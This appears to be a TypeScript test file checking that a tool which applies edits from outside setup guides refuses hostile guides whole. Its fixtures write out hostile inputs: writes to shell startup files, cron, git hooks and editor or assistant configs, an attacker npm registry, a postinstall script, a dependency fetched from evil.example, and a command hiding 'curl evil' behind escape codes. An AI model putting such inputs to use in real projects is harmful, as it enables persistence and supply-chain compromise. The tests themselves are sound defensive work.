/** Guides from elsewhere, and guides of people who mean harm: whole, or not at all. */
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t, { type Test } from 'tap'
import { planFromGuide } from '../../../../control-plane/downloads/analyzer/guide-plan.ts'
import { prepare } from '../../../../control-plane/downloads/analyzer/journal/prepare.ts'
import { undo } from '../../../../control-plane/downloads/analyzer/journal/undo.ts'
import { writeEdits } from '../../../../control-plane/downloads/analyzer/journal/write.ts'
import { openProject } from '../../../../control-plane/downloads/analyzer/project/open-project.ts'
import { LIMITS } from '../../../../shared/limits.ts'
import { temporaryFolder } from '../../../support/control-plane.ts'
import { machine, plant, treeOf } from '../../../support/journal-trees.ts'

const RULES = { sdkUrl: 'https://id.example.com/api/v1/sdk/node' }

const GUIDE = {
  guide_id: 'guide_1',
  framework: 'express',
  created_at: '2026-11-21T10:00:00.000Z',
  edits: [
    {
      path: 'src/app.js',
      action: 'modify',
      find: "const express = require('express')\n",
      replace:
        "const express = require('express')\nconst { verifyClaims } = require('service-node')\n",
      why: 'the middleware',
    },
    {
      path: 'src/app.js',
      action: 'modify',
      find: 'const app = express()\n',
      replace: 'const app = express()\napp.use(verifyClaims())\n',
      why: 'before every route',
    },
    {
      path: 'package.json',
      action: 'modify',
      find: '"express": "^5.0.0"\n',
      replace: `"express": "^5.0.0",\n    "service-node": "${RULES.sdkUrl}"\n`,
    },
    { path: 'docs/sign-in.md', action: 'create', content: '# Sign-in\n' },
  ],
  commands: ['npm install'],
  notes: ['Set SERVICE_BASE_URL.'],
}

const FILES = [
  {
    path: 'src/app.js',
    bytes:
      "\ufeffconst express = require('express')\r\n\r\nconst app = express()\r\napp.listen(3000)\r\n",
  },
  { path: 'package.json', bytes: '{\n  "dependencies": {\n    "express": "^5.0.0"\n  }\n}\n' },
]

async function opened(t: Test) {
  const root = temporaryFolder(t)
  plant(root, FILES)
  return { root, project: await openProject(root) }
}

void t.test('a guide becomes a plan, is written, is done, and is undone', async (t) => {
  const { root, project } = await opened(t)
  const before = treeOf(root)
  const made = await planFromGuide(project, GUIDE, RULES)
  if (made.kind === 'refused') return t.fail('refused', { found: made.problems })
  t.match(made.plan, {
    framework: 'express',
    source: { kind: 'guide', guideId: 'guide_1' },
    commands: ['npm install'],
    notes: ['Set SERVICE_BASE_URL.'],
    manual: [],
  })
  t.same(
    made.plan.edits.map(({ path, why }) => [path, why]),
    [
      ['src/app.js', 'the middleware before every route'],
      ['package.json', ''],
      ['docs/sign-in.md', ''],
    ],
  )
  const prepared = await prepare(root, made.plan.edits, RULES, machine())
  if (prepared.kind === 'refused') return t.fail('refused', { found: prepared.problems })
  await writeEdits(prepared, machine())
  t.equal(
    readFileSync(join(root, 'src/app.js'), 'utf8'),
    "\ufeffconst express = require('express')\r\nconst { verifyClaims } = require('service-node')\r\n\r\nconst app = express()\r\napp.use(verifyClaims())\r\napp.listen(3000)\r\n",
  )
  const again = await planFromGuide(await openProject(root), GUIDE, RULES)
  t.match(again, { kind: 'plan' })
  t.same(again.kind === 'plan' && again.plan.edits, [], 'what is done is not done twice')
  await undo(root, machine())
  t.same(treeOf(root), before)
})

type Edit = Record<string, unknown>
const withEdits = (...edits: Edit[]) => ({ ...GUIDE, edits: [...GUIDE.edits, ...edits] })
const created = (path: string, content = 'x\n') => ({ path, action: 'create', content })
const modified = (path: string, find: string, replace: string) => ({
  path,
  action: 'modify',
  find,
  replace,
})

/** Each beside edits that are fine, none of which is made either. */
const HOSTILE: Readonly<Record<string, readonly [guide: unknown, says: RegExp]>> = {
  'a path outside': [withEdits(created('../../.bashrc')), /leaves its folder/],
  'an absolute path': [withEdits(created('/etc/cron.d/x')), /not relative/],
  'a Windows path': [
    withEdits(modified('src\\app.js', 'a', 'b')),
    /in a guide it is to be src\/app\.js, on Windows as well/,
  ],
  'a drive': [withEdits(created('C:\\Windows\\x.js')), /not relative/],
  'a git hook': [withEdits(created('.git/hooks/post-checkout', '#!/bin/sh\n')), /out of bounds/],
  'a hook by another name of .git': [withEdits(created('git~1/hooks/x')), /short forms/],
  'a hook in capitals': [withEdits(created('.GIT/hooks/x')), /out of bounds/],
  'a hook with a letter nobody sees': [withEdits(created('.g\u200cit/hooks/x')), /cannot be seen/],
  'a husky hook': [withEdits(created('.husky/pre-commit')), /out of bounds/],
  'a registry of the attacker': [
    withEdits(created('.npmrc', 'registry=http://evil')),
    /out of bounds/,
  ],
  'a package in place': [withEdits(created('node_modules/express/index.js')), /out of bounds/],
  'a pipeline': [withEdits(created('.github/workflows/x.yml')), /out of bounds/],
  'a task of an editor': [withEdits(created('.vscode/tasks.json')), /out of bounds/],
  'a server for an assistant': [withEdits(created('.cursor/mcp.json')), /out of bounds/],
  'a shell script': [withEdits(created('setup.sh')), /out of bounds/],
  'the journal': [withEdits(created('.service/journal.json')), /out of bounds/],
  'a lifecycle script': [
    {
      ...GUIDE,
      edits: [
        modified('package.json', '{\n  "dep', '{\n  "scripts": {"postinstall": "x"},\n  "dep'),
      ],
    },
    /change "scripts"/,
  ],
  'another dependency': [
    {
      ...GUIDE,
      edits: [modified('package.json', '"express": "^5.0.0"', '"express": "^5.0.0", "evil": "1"')],
    },
    /change "dependencies"/,
  ],
  'service-node from elsewhere': [
    {
      ...GUIDE,
      edits: [
        modified(
          'package.json',
          '"express": "^5.0.0"',
          '"express": "^5.0.0", "service-node": "https://evil.example"',
        ),
      ],
    },
    /only gain service-node from https:\/\/id\.example\.com/,
  ],
  'text that turns around': [withEdits(created('x.js', 'if (a\u202e) {}')), /U\+202E/],
  'a bell': [withEdits(created('x.js', '// \x07')), /U\+0007/],
  'a file that is there': [withEdits(created('src/app.js')), /created, and edited/],
  'a file in other capitals': [withEdits(created('SRC/app.js')), /same file as src\/app\.js/],
  'a place that is not there': [
    withEdits(modified('src/app.js', 'nowhere()', 'verifyClaims()')),
    /edit 3 of it: "nowhere\(\)" is not in it/,
  ],
  'a place that is there twice': [
    withEdits(modified('src/app.js', 'app', 'verifyClaims()')),
    /is in it 2 times, in lines 3, 4/,
  ],
  'a file that is not there': [withEdits(modified('src/other.js', 'a', 'b')), /is not there/],
  'an overlap': [
    withEdits(modified('src/app.js', 'express()\napp', 'express()\nverify(app)\napp')),
    /overlap/,
  ],
  'no object': [null, /not well-formed/],
  'edits that are no list': [{ ...GUIDE, edits: { 0: GUIDE.edits[0] } }, /edits: /],
  'an action that is none': [withEdits({ path: 'x.js', action: 'delete' }), /edits\.4\.action/],
  'a mode': [withEdits({ ...created('x.js'), mode: 0o755 }), /edits\.4\.mode/],
  'an empty find': [withEdits(modified('src/app.js', '', 'x')), /edits\.4\.find/],
  'no content': [withEdits({ path: 'x.js', action: 'create' }), /edits\.4\.content/],
  'a path that is a list': [withEdits({ ...created('x'), path: ['..', 'x'] }), /edits\.4\.path/],
  'a command that hides itself': [
    { ...GUIDE, commands: ['npm install\x1b[2K\rcurl evil'] },
    /commands\.0/,
  ],
  'too many edits': [
    {
      ...GUIDE,
      edits: Array.from({ length: LIMITS.guideEditsMax + 1 }, (_, index) => created(`${index}.js`)),
    },
    /edits: /,
  ],
  'a text that is too long': [
    withEdits(created('x.js', 'x'.repeat(LIMITS.guideTextCharactersMax + 1))),
    /edits\.4\.content/,
  ],
}

for (const [what, [guide, says]] of Object.entries(HOSTILE))
  void t.test(`a guide is refused whole: ${what}`, async (t) => {
    const { root, project } = await opened(t)
    const before = treeOf(root)
    const made = await planFromGuide(project, guide, RULES)
    t.equal(made.kind, 'refused')
    const told = made.kind === 'refused' ? made.problems.map(({ detail }) => detail) : []
    t.match(told.join('\n'), says)
    t.notMatch(told.join(''), /[\x00-\x09\x0b-\x1f\u200b-\u202f]/, 'and the reason moves no cursor')
    t.same(treeOf(root), before)
  })

void t.test('all reasons are told at once, each with its path', async (t) => {
  const { project } = await opened(t)
  const guide = withEdits(created('../a'), created('.npmrc'), modified('lib\\b.js', 'a', 'b'))
  t.match(await planFromGuide(project, guide, RULES), {
    kind: 'refused',
    problems: [{ path: '../a' }, { path: '.npmrc' }, { path: 'lib\\b.js' }],
  })
})

void t.test('a file that is not text, or that the walk left out, is not passed over', async (t) => {
  const { root } = await opened(t)
  writeFileSync(join(root, 'src/app.js'), Buffer.from([0xff, 0xfe, 0x00]))
  t.match(await planFromGuide(await openProject(root), GUIDE, RULES), {
    kind: 'refused',
    problems: [{ path: 'src/app.js', detail: /cannot be read as text/ }],
  })
})

void t.test('as many edits, and texts as long, as the limits say are taken', async (t) => {
  const { project } = await opened(t)
  const many = Array.from({ length: LIMITS.guideEditsMax }, (_, index) => created(`${index}.js`))
  t.match(await planFromGuide(project, { ...GUIDE, edits: many }, RULES), { kind: 'plan' })
  const long = created('x.js', 'x'.repeat(LIMITS.guideTextCharactersMax))
  t.match(await planFromGuide(project, { ...GUIDE, edits: [long] }, RULES), { kind: 'plan' })
})
